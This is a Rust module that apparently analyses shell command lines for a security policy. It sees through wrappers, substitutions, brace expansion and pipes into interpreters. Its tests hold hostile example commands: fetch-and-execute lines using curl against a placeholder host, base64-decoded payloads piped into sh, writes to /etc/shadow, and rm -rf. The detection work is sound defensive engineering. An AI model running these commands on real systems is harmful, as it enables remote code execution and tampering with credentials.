//! What a shell command line would run, for policy: every simple command (through pipes, lists,
//! subshells, `$(...)`, backticks, `bash -c '...'` and wrappers such as `sudo`, `env`, `nohup`),
//! program names without their directories, files written by redirection, and whether data is
//! piped into an interpreter (`base64 -d | sh`). It is a conservative reading, not a shell: what
//! it cannot follow is reported so the policy can hold it.

/// Facts about one command line.
#[derive(Debug, Default, Clone, PartialEq, Eq)]
pub struct ShellFacts {
    /// Each simple command, program basename first, arguments joined by single spaces.
    pub commands: Vec<String>,
    /// Program basenames, in order of appearance (wrappers included).
    pub programs: Vec<String>,
    /// Targets of `>`, `>>`, `tee`, and similar writes.
    pub write_paths: Vec<String>,
    /// An interpreter reads commands from a pipe.
    pub pipe_to_shell: bool,
    /// Quotes or substitutions were left open.
    pub unbalanced: bool,
}

/// Stands in a word for text produced at run time (`$(...)`, backticks, `<(...)`).
const DYNAMIC: char = '\u{0}';

/// A path with `//`, `/./` and (for absolute paths) `/../` resolved lexically, so
/// `/etc//shadow` and `/etc/ssh/../shadow` read as `/etc/shadow`.
pub fn normalize_path(p: &str) -> String {
    if !p.contains("//") && !p.contains("/.") {
        return p.to_string();
    }
    let absolute = p.starts_with('/');
    let mut parts: Vec<&str> = Vec::new();
    for seg in p.split('/') {
        match seg {
            "" | "." => {}
            ".." if absolute => {
                parts.pop();
            }
            other => parts.push(other),
        }
    }
    let joined = parts.join("/");
    if absolute {
        format!("/{joined}")
    } else {
        joined
    }
}

const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh", "ash", "fish", "busybox"];
const INTERPRETERS: &[&str] = &[
    "sh", "bash", "zsh", "dash", "ksh", "ash", "fish", "python", "python3", "perl", "ruby", "node",
    "php",
];
/// Programs that run their arguments as another command.
const WRAPPERS: &[&str] = &[
    "sudo", "doas", "env", "nohup", "time", "exec", "command", "builtin", "nice", "ionice",
    "timeout", "stdbuf", "setsid", "xargs", "watch", "chroot", "su", "runuser", "strace",
];

#[derive(Debug, Clone, PartialEq, Eq)]
enum Tok {
    Word(String),
    /// `|`
    Pipe,
    /// `;`, `&&`, `||`, `&`, newline, parentheses: command separators.
    Sep,
    /// `>`, `>>`, `>|`, `&>`: the next word is written.
    Redirect,
    /// `<`, `<<`, `2>&1`-like forms that do not write a file we track.
    OtherRedirect,
}

/// Splits a line into tokens, collecting `$(...)` and backtick bodies for separate analysis.
fn tokenize(line: &str, nested: &mut Vec<String>, unbalanced: &mut bool) -> Vec<Tok> {
    let chars: Vec<char> = line.chars().collect();
    let mut toks = Vec::new();
    let mut word = String::new();
    let mut in_word = false;
    let mut i = 0;
    let flush = |toks: &mut Vec<Tok>, word: &mut String, in_word: &mut bool| {
        if *in_word {
            toks.push(Tok::Word(std::mem::take(word)));
            *in_word = false;
        }
    };
    while i < chars.len() {
        let c = chars[i];
        match c {
            '\\' => {
                if let Some(&n) = chars.get(i + 1) {
                    if n != '\n' {
                        word.push(n);
                        in_word = true;
                    }
                    i += 2;
                } else {
                    i += 1;
                }
            }
            '\'' => {
                in_word = true;
                match chars[i + 1..].iter().position(|&x| x == '\'') {
                    Some(end) => {
                        word.extend(&chars[i + 1..i + 1 + end]);
                        i += end + 2;
                    }
                    None => {
                        *unbalanced = true;
                        word.extend(&chars[i + 1..]);
                        i = chars.len();
                    }
                }
            }
            '"' => {
                in_word = true;
                i += 1;
                let mut closed = false;
                while i < chars.len() {
                    match chars[i] {
                        '"' => {
                            closed = true;
                            i += 1;
                            break;
                        }
                        '\\' if i + 1 < chars.len() => {
                            word.push(chars[i + 1]);
                            i += 2;
                        }
                        '$' if chars.get(i + 1) == Some(&'(') => {
                            let (body, next) = take_parens(&chars, i + 1, unbalanced);
                            push_substitution(body, nested);
                            word.push(DYNAMIC);
                            i = next;
                        }
                        '`' => {
                            let (body, next) = take_backticks(&chars, i, unbalanced);
                            nested.push(body);
                            word.push(DYNAMIC);
                            i = next;
                        }
                        other => {
                            word.push(other);
                            i += 1;
                        }
                    }
                }
                if !closed {
                    *unbalanced = true;
                }
            }
            // `$(...)`, and `<(...)`/`>(...)` process substitution: the body runs too, and the
            // word it stands in is only known at run time.
            '$' | '<' | '>' if chars.get(i + 1) == Some(&'(') => {
                if c != '$' {
                    flush(&mut toks, &mut word, &mut in_word);
                }
                let (body, next) = take_parens(&chars, i + 1, unbalanced);
                if c == '$' {
                    push_substitution(body, nested);
                } else {
                    nested.push(body);
                }
                word.push(DYNAMIC);
                in_word = true;
                i = next;
            }
            '`' => {
                let (body, next) = take_backticks(&chars, i, unbalanced);
                nested.push(body);
                word.push(DYNAMIC);
                in_word = true;
                i = next;
            }
            ' ' | '\t' => {
                flush(&mut toks, &mut word, &mut in_word);
                i += 1;
            }
            '\n' | ';' | '(' | ')' => {
                flush(&mut toks, &mut word, &mut in_word);
                toks.push(Tok::Sep);
                i += 1;
            }
            // `{` and `}` group commands only as words of their own: `{}` (find -exec) and
            // `{a,b}` are ordinary words.
            '{' | '}'
                if !in_word
                    && chars
                        .get(i + 1)
                        .is_none_or(|n| matches!(n, ' ' | '\t' | '\n' | ';' | '&' | '|' | ')')) =>
            {
                toks.push(Tok::Sep);
                i += 1;
            }
            '&' => {
                flush(&mut toks, &mut word, &mut in_word);
                if chars.get(i + 1) == Some(&'>') {
                    toks.push(Tok::Redirect);
                    i += if chars.get(i + 2) == Some(&'>') { 3 } else { 2 };
                } else {
                    toks.push(Tok::Sep);
                    i += if chars.get(i + 1) == Some(&'&') { 2 } else { 1 };
                }
            }
            '|' => {
                flush(&mut toks, &mut word, &mut in_word);
                if chars.get(i + 1) == Some(&'|') {
                    toks.push(Tok::Sep);
                    i += 2;
                } else {
                    toks.push(Tok::Pipe);
                    i += if chars.get(i + 1) == Some(&'&') { 2 } else { 1 };
                }
            }
            '>' => {
                // `2>` / `1>`: the digit belongs to the redirection, not to a word.
                if in_word && word.chars().all(|d| d.is_ascii_digit()) {
                    word.clear();
                    in_word = false;
                }
                flush(&mut toks, &mut word, &mut in_word);
                if chars.get(i + 1) == Some(&'&') {
                    i += 2;
                    if chars
                        .get(i)
                        .is_some_and(|d| d.is_ascii_digit() || *d == '-')
                    {
                        // `>&2`, `2>&1`, `>&-`: a descriptor is duplicated or closed; no word
                        // follows, so the next word is not a redirection target.
                        while chars
                            .get(i)
                            .is_some_and(|d| d.is_ascii_digit() || *d == '-')
                        {
                            i += 1;
                        }
                    } else {
                        // `>& file` writes the file (like `&>`).
                        toks.push(Tok::Redirect);
                    }
                } else {
                    toks.push(Tok::Redirect);
                    i += 1;
                    while matches!(chars.get(i), Some('>') | Some('|')) {
                        i += 1;
                    }
                }
            }
            '<' => {
                flush(&mut toks, &mut word, &mut in_word);
                toks.push(Tok::OtherRedirect);
                i += 1;
                while matches!(chars.get(i), Some('<') | Some('-')) {
                    i += 1;
                }
            }
            other => {
                word.push(other);
                in_word = true;
                i += 1;
            }
        }
    }
    flush(&mut toks, &mut word, &mut in_word);
    toks
}

/// `chars[open]` is `(`: returns the text up to the matching `)` and the index after it.
/// Queues the body of `$(...)` for analysis as commands. `$((...))` (closing `))` adjacent) is
/// arithmetic, not a command: only substitutions inside it run (`$(( $(cmd) + 1 ))`).
fn push_substitution(body: String, nested: &mut Vec<String>) {
    if body.len() >= 2 && body.starts_with('(') && body.ends_with(')') {
        let inner = &body[1..body.len() - 1];
        if inner.contains("$(") || inner.contains('`') {
            nested.push(inner.to_string());
        }
        return;
    }
    nested.push(body);
}

fn take_parens(chars: &[char], open: usize, unbalanced: &mut bool) -> (String, usize) {
    let mut depth = 0usize;
    let mut i = open;
    while i < chars.len() {
        match chars[i] {
            '(' => depth += 1,
            ')' => {
                depth -= 1;
                if depth == 0 {
                    return (chars[open + 1..i].iter().collect(), i + 1);
                }
            }
            '\\' => i += 1,
            _ => {}
        }
        i += 1;
    }
    *unbalanced = true;
    (
        chars[(open + 1).min(chars.len())..].iter().collect(),
        chars.len(),
    )
}

fn take_backticks(chars: &[char], open: usize, unbalanced: &mut bool) -> (String, usize) {
    match chars[open + 1..].iter().position(|&c| c == '`') {
        Some(end) => (
            chars[open + 1..open + 1 + end].iter().collect(),
            open + end + 2,
        ),
        None => {
            *unbalanced = true;
            (chars[open + 1..].iter().collect(), chars.len())
        }
    }
}

/// A program word the shell would rewrite before running it, a glob (`/usr/bin/su?o`), so the
/// program that runs is not the word read.
fn expands_to_other_words(word: &str) -> bool {
    word.contains(['*', '?', '['])
}

/// Most words one brace expansion may produce before the line counts as hidden.
const MAX_BRACE_WORDS: usize = 256;
/// Longest word with braces that is expanded rather than counted as hidden.
const MAX_BRACE_WORD_BYTES: usize = 2048;

/// Bash brace expansion of one word: `f{,.bak}` is `f f.bak`, `{-rf,/x}` is `-rf /x`,
/// `{1..3}` is `1 2 3`, nested and repeated braces included. `${...}` is a parameter, not a
/// brace. `None` when the expansion would exceed [`MAX_BRACE_WORDS`] words.
fn brace_expand(word: &str) -> Option<Vec<String>> {
    // Finding braces is quadratic in the worst case (`{{{{...`): a word that long is not read.
    if word.len() > MAX_BRACE_WORD_BYTES && word.contains('{') {
        return None;
    }
    let mut out = Vec::new();
    expand_into(word, &mut out)?;
    Some(out)
}

fn expand_into(word: &str, out: &mut Vec<String>) -> Option<()> {
    let Some((open, close, parts)) = first_brace(word) else {
        if out.len() >= MAX_BRACE_WORDS {
            return None;
        }
        out.push(word.to_string());
        return Some(());
    };
    if parts.len() > MAX_BRACE_WORDS {
        return None;
    }
    let (prefix, suffix) = (&word[..open], &word[close + 1..]);
    for part in parts {
        expand_into(&format!("{prefix}{part}{suffix}"), out)?;
    }
    Some(())
}

/// The first brace expression of `word` that expands: its byte range and its alternatives.
fn first_brace(word: &str) -> Option<(usize, usize, Vec<String>)> {
    let bytes = word.as_bytes();
    let mut search = 0;
    while let Some(rel) = word[search..].find('{') {
        let open = search + rel;
        search = open + 1;
        if open > 0 && bytes[open - 1] == b'$' {
            continue;
        }
        // The matching close and the top-level commas.
        let mut depth = 0usize;
        let mut commas = Vec::new();
        let mut close = None;
        for (i, &b) in bytes.iter().enumerate().skip(open) {
            match b {
                b'{' => depth += 1,
                b'}' => {
                    depth -= 1;
                    if depth == 0 {
                        close = Some(i);
                        break;
                    }
                }
                b',' if depth == 1 => commas.push(i),
                _ => {}
            }
        }
        let close = close?;
        if !commas.is_empty() {
            let mut parts = Vec::with_capacity(commas.len() + 1);
            let mut start = open + 1;
            for c in commas.into_iter().chain([close]) {
                parts.push(word[start..c].to_string());
                start = c + 1;
            }
            return Some((open, close, parts));
        }
        if let Some(parts) = sequence(&word[open + 1..close]) {
            return Some((open, close, parts));
        }
    }
    None
}

/// `a..b[..step]` with integers, or `a..b` with single letters. Longer than
/// [`MAX_BRACE_WORDS`] comes back one word too long, which the caller refuses.
fn sequence(inner: &str) -> Option<Vec<String>> {
    let mut it = inner.split("..");
    let (a, b) = (it.next()?, it.next()?);
    let step = match it.next() {
        Some(s) => s.parse::<i64>().ok()?.unsigned_abs().max(1),
        None => 1,
    };
    if it.next().is_some() {
        return None;
    }
    if let (Ok(x), Ok(y)) = (a.parse::<i64>(), b.parse::<i64>()) {
        let count = (x.abs_diff(y) / step).saturating_add(1);
        if count > MAX_BRACE_WORDS as u64 {
            return Some(vec![String::new(); MAX_BRACE_WORDS + 1]);
        }
        let step = step as i64;
        let dir = if y >= x { step } else { -step };
        return Some(
            (0..count as i64)
                .map(|k| (x + k * dir).to_string())
                .collect(),
        );
    }
    let (mut ca, mut cb) = (a.chars(), b.chars());
    match (ca.next(), ca.next(), cb.next(), cb.next()) {
        (Some(x), None, Some(y), None) if x.is_ascii_alphabetic() && y.is_ascii_alphabetic() => {
            let (lo, hi) = (x.min(y) as u8, x.max(y) as u8);
            let mut v: Vec<String> = (lo..=hi).map(|c| (c as char).to_string()).collect();
            if x > y {
                v.reverse();
            }
            Some(v)
        }
        _ => None,
    }
}

/// Every word brace-expanded; `None` when an expansion is too large to follow.
fn expand_words(words: &[String]) -> Option<Vec<String>> {
    let mut out = Vec::with_capacity(words.len());
    for w in words {
        out.extend(brace_expand(w)?);
        if out.len() > MAX_BRACE_WORDS {
            return None;
        }
    }
    Some(out)
}

fn basename(word: &str) -> String {
    word.rsplit('/').next().unwrap_or(word).to_string()
}

fn is_assignment(word: &str) -> bool {
    match word.find('=') {
        Some(eq) if eq > 0 => word[..eq]
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || c == '_'),
        _ => false,
    }
}

/// Reads a command line. `depth` bounds recursion through nested shells.
pub fn analyze(line: &str) -> ShellFacts {
    let mut facts = ShellFacts::default();
    analyze_into(line, &mut facts, 0);
    facts
}

fn analyze_into(line: &str, facts: &mut ShellFacts, depth: usize) {
    if depth > 8 {
        facts.unbalanced = true;
        return;
    }
    let mut nested = Vec::new();
    let toks = tokenize(line, &mut nested, &mut facts.unbalanced);
    let mut current: Vec<String> = Vec::new();
    let mut in_pipe = false;
    let mut expect_write_target = false;
    let mut expect_other_target = false;
    let finish = |words: &mut Vec<String>, piped: bool, facts: &mut ShellFacts| {
        if !words.is_empty() {
            simple_command(std::mem::take(words), piped, facts, depth);
        }
    };
    for t in toks {
        match t {
            Tok::Word(w) => {
                if expect_write_target {
                    match brace_expand(&w) {
                        Some(targets) => facts
                            .write_paths
                            .extend(targets.iter().map(|t| normalize_path(t))),
                        None => facts.pipe_to_shell = true,
                    }
                    expect_write_target = false;
                } else if expect_other_target {
                    expect_other_target = false;
                } else {
                    current.push(w);
                }
            }
            Tok::Redirect => expect_write_target = true,
            Tok::OtherRedirect => expect_other_target = true,
            Tok::Pipe => {
                finish(&mut current, in_pipe, facts);
                in_pipe = true;
                expect_write_target = false;
                expect_other_target = false;
            }
            Tok::Sep => {
                finish(&mut current, in_pipe, facts);
                in_pipe = false;
                expect_write_target = false;
                expect_other_target = false;
            }
        }
    }
    finish(&mut current, in_pipe, facts);
    for body in nested {
        analyze_into(&body, facts, depth + 1);
    }
}

fn simple_command(words: Vec<String>, piped: bool, facts: &mut ShellFacts, depth: usize) {
    let words = if words.iter().any(|w| w.contains('{')) {
        match expand_words(&words) {
            Some(w) => w,
            None => {
                // Too many words to follow: what runs is not what can be read.
                facts.pipe_to_shell = true;
                words
            }
        }
    } else {
        words
    };
    let mut rest: &[String] = &words;
    while let Some(first) = rest.first() {
        match first.as_str() {
            // Reserved words that open or continue a compound command: the command follows
            // (`do sudo id`, `if rm -r x; then`, `! sudo id`).
            "!" | "if" | "then" | "else" | "elif" | "while" | "until" | "do" | "done" | "fi"
            | "esac" | "{" | "}" => rest = &rest[1..],
            // `for NAME in WORDS`, `select ...`, `case WORD in`: words, not a command (their
            // substitutions are read separately).
            "for" | "select" | "case" => return,
            w if is_assignment(w) => rest = &rest[1..],
            _ => break,
        }
    }
    let Some(first) = rest.first() else {
        return;
    };
    let program = basename(first);
    // A program named by a substitution or a variable hides the command that runs, like a
    // script piped into a shell.
    if first.contains(DYNAMIC) || first.starts_with('$') || expands_to_other_words(first) {
        facts.pipe_to_shell = true;
    }
    facts.programs.push(program.clone());
    let mut normalized = program.clone();
    for a in &rest[1..] {
        normalized.push(' ');
        if a.starts_with('/') {
            normalized.push_str(&normalize_path(a));
        } else {
            normalized.push_str(a);
        }
    }
    facts.commands.push(normalized);
    let args = &rest[1..];
    if program == "tee" {
        facts.write_paths.extend(
            args.iter()
                .filter(|a| !a.starts_with('-'))
                .map(|a| normalize_path(a)),
        );
    }
    if program == "eval" || program == "source" || program == "." {
        // `eval "$(...)"`, `source <(curl ...)`: code known only at run time.
        if args
            .iter()
            .any(|a| a.contains(DYNAMIC) || a.starts_with('$'))
            || (program != "eval" && piped)
        {
            facts.pipe_to_shell = true;
        }
        if program == "eval" {
            analyze_into(&args.join(" "), facts, depth + 1);
        }
    }
    if SHELLS.contains(&program.as_str()) {
        if let Some(pos) = args.iter().position(|a| {
            a == "-c" || (a.starts_with('-') && a.contains('c') && !a.starts_with("--"))
        }) {
            if let Some(script) = args.get(pos + 1) {
                // A script computed at run time (`bash -c "$(... | base64 -d)"`) hides what runs.
                if script.contains(DYNAMIC) || script.starts_with('$') {
                    facts.pipe_to_shell = true;
                }
                analyze_into(script, facts, depth + 1);
            }
        } else if piped || args.iter().all(|a| a.starts_with('-')) {
            facts.pipe_to_shell |= piped;
        } else if args
            .iter()
            .find(|a| !a.starts_with('-'))
            .is_some_and(|a| a.contains(DYNAMIC))
        {
            // `bash <(curl ...)`: the script file is a process substitution.
            facts.pipe_to_shell = true;
        }
    } else if INTERPRETERS.contains(&program.as_str())
        && piped
        && args.iter().all(|a| a.starts_with('-'))
    {
        facts.pipe_to_shell = true;
    }
    if WRAPPERS.contains(&program.as_str()) {
        // The wrapped command is a command too: skip the wrapper's own options and arguments
        // that look like values (e.g. `timeout 5`, `sudo -u user`, `env A=b`).
        let mut i = 0;
        while i < args.len() {
            let a = &args[i];
            if a == "--" {
                i += 1;
                break;
            }
            if a.starts_with('-') {
                let takes_value = matches!(
                    (program.as_str(), a.as_str()),
                    (
                        "sudo",
                        "-u" | "-g" | "-C" | "-h" | "-p" | "-U" | "-r" | "-t"
                    ) | ("su" | "runuser", "-c" | "-g" | "-G" | "-s")
                        | ("nice", "-n")
                        | ("timeout", "-s" | "-k")
                        | ("xargs", "-I" | "-n" | "-P" | "-d" | "-L" | "-s" | "-E")
                        | ("watch", "-n" | "-d")
                        | ("env", "-u" | "-C")
                );
                if matches!((program.as_str(), a.as_str()), ("su" | "runuser", "-c"))
                    && let Some(script) = args.get(i + 1)
                {
                    analyze_into(script, facts, depth + 1);
                }
                i += if takes_value { 2 } else { 1 };
                continue;
            }
            if is_assignment(a)
                || (program == "timeout" && a.chars().next().is_some_and(|c| c.is_ascii_digit()))
                || (program == "nice" && a.parse::<i32>().is_ok())
            {
                i += 1;
                continue;
            }
            if matches!(program.as_str(), "su" | "runuser" | "chroot") {
                // `su user`, `chroot dir cmd`: the first plain argument is not a command.
                i += 1;
                if program != "chroot" {
                    break;
                }
                continue;
            }
            break;
        }
        if i < args.len() {
            simple_command(args[i..].to_vec(), piped, facts, depth);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sees_through_wrappers_and_paths() {
        let f = analyze("/usr/bin/sudo -u root /bin/rm -rf /var/lib/x");
        assert_eq!(f.programs, vec!["sudo", "rm"]);
        assert!(f.commands.contains(&"rm -rf /var/lib/x".to_string()));
    }

    #[test]
    fn sees_inside_shell_c_and_substitution() {
        let f = analyze("bash -c 'systemctl restart nginx && echo ok'");
        assert!(f.commands.contains(&"systemctl restart nginx".to_string()));
        let f = analyze("echo $(sudo -i id) `shutdown -h now`");
        assert!(f.programs.contains(&"sudo".to_string()));
        assert!(f.programs.contains(&"shutdown".to_string()));
        let f = analyze("sh -c \"kill -9 1\"");
        assert!(f.commands.contains(&"kill -9 1".to_string()));
    }

    #[test]
    fn arithmetic_is_not_a_command_and_expansions_hide_the_program() {
        let f = analyze("echo $((1+1)) \"$((2*3))\"");
        assert_eq!(f.programs, vec!["echo"], "{f:?}");
        assert!(!f.pipe_to_shell);
        // Substitutions inside arithmetic still run; `$( (...) )` is a command substitution.
        assert!(
            analyze("echo $(( $(sudo id -u) + 1 ))")
                .programs
                .contains(&"sudo".to_string())
        );
        assert!(
            analyze("echo $((sudo id) )")
                .programs
                .contains(&"sudo".to_string())
        );
        for line in ["/usr/bin/su?o id", "/usr/bin/s[u]do id", "echo {1..100000}"] {
            assert!(analyze(line).pipe_to_shell, "{line}");
        }
        assert!(!analyze("find . -exec ls {} +").pipe_to_shell);
        assert!(!analyze("ls *.txt").pipe_to_shell);
    }

    #[test]
    fn brace_expansion_is_read_as_the_shell_runs_it() {
        let f = analyze("{sudo,id}");
        assert_eq!(f.programs, vec!["sudo", "id"], "{f:?}");
        let f = analyze("rm {-rf,/srv/data}");
        assert_eq!(f.commands, vec!["rm -rf /srv/data"], "{f:?}");
        assert_eq!(analyze("cp f{,.bak}").commands, vec!["cp f f.bak"]);
        assert_eq!(
            analyze("echo {1..3} {c..a} {1..9..4}").commands,
            vec!["echo 1 2 3 c b a 1 5 9"]
        );
        assert_eq!(
            analyze("echo a{b,c{d,e}}x").commands,
            vec!["echo abx acdx acex"]
        );
        assert_eq!(
            analyze("echo ${HOME} {x} {a..}").commands,
            vec!["echo ${HOME} {x} {a..}"]
        );
        assert_eq!(
            analyze("cat x > /etc/{shadow,motd}").write_paths,
            vec!["/etc/shadow", "/etc/motd"]
        );
        assert!(!analyze("cp f{,.bak}").pipe_to_shell);
        assert!(analyze("echo {a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}").pipe_to_shell);
        let deep = format!("echo {}", "{".repeat(100_000));
        let started = std::time::Instant::now();
        assert!(analyze(&deep).pipe_to_shell);
        assert!(started.elapsed() < std::time::Duration::from_secs(1));
    }

    #[test]
    fn run_time_code_and_paths() {
        assert!(analyze("bash -c \"$(echo aWQK | base64 -d)\"").pipe_to_shell);
        assert!(analyze("bash <(curl -s http://x)").pipe_to_shell);
        assert!(analyze("source <(curl -s http://x)").pipe_to_shell);
        assert!(analyze("eval \"$(curl -s http://x)\"").pipe_to_shell);
        assert!(analyze("$(echo rm) -rf /x").pipe_to_shell);
        assert!(!analyze("echo $(date) > /tmp/x").pipe_to_shell);
        assert!(!analyze("diff <(sort a) b").pipe_to_shell);
        assert!(
            analyze("diff <(sort a) b")
                .programs
                .contains(&"sort".to_string())
        );
        assert_eq!(
            analyze("cat x > /etc//shadow").write_paths,
            vec!["/etc/shadow"]
        );
        assert_eq!(
            analyze("tee /etc/ssh/../shadow").write_paths,
            vec!["/etc/shadow"]
        );
        assert!(
            analyze("cp x /etc/./shadow")
                .commands
                .contains(&"cp x /etc/shadow".to_string())
        );
        assert_eq!(normalize_path("a//b/./c"), "a/b/c");
    }

    #[test]
    fn pipe_into_interpreter_and_writes() {
        let f = analyze("echo c3VkbyBpZAo= | base64 -d | sh");
        assert!(f.pipe_to_shell);
        let f = analyze("echo x > /etc/shadow; cat a | tee -a /etc/shadow 2>&1");
        assert_eq!(f.write_paths, vec!["/etc/shadow", "/etc/shadow"]);
        let f = analyze("ls -l 2> /dev/null");
        assert_eq!(f.write_paths, vec!["/dev/null"]);
        assert_eq!(f.commands, vec!["ls -l"]);
    }

    #[test]
    fn compound_commands_and_descriptor_redirections() {
        for line in [
            "for i in 1 2; do sudo id; done",
            "while true; do sudo id; done",
            "until false; do sudo id; done",
            "if true; then sudo id; fi",
            "if sudo id; then :; fi",
            "if false; then :; else sudo id; fi",
            "echo a; ! sudo id",
            "echo x >&2; sudo id",
            "ls 2>&1; sudo id",
            "ls 2>&- | sudo tee /x",
            "{ sudo id; }",
        ] {
            let f = analyze(line);
            assert!(f.programs.contains(&"sudo".to_string()), "{line}: {f:?}");
            assert!(
                f.commands.iter().any(|c| c.starts_with("sudo ")),
                "{line}: {f:?}"
            );
        }
        let f = analyze("for i in 1; do rm -r $i; done");
        assert_eq!(f.commands, vec!["rm -r $i"]);
        assert!(analyze("echo x >& /etc/shadow").write_paths == vec!["/etc/shadow"]);
        let f = analyze("find d -exec stat -c '%n' {} +");
        assert_eq!(f.programs, vec!["find"]);
        assert_eq!(f.commands, vec!["find d -exec stat -c %n {} +"]);
        assert_eq!(
            analyze("echo out; echo err >&2; exit 4").programs,
            vec!["echo", "echo", "exit"]
        );
    }

    #[test]
    fn quoting_keeps_words_together() {
        let f = analyze("grep 'a b' \"c d\" e\\ f");
        assert_eq!(f.commands, vec!["grep a b c d e f"]);
        assert!(analyze("echo 'open").unbalanced);
    }
}
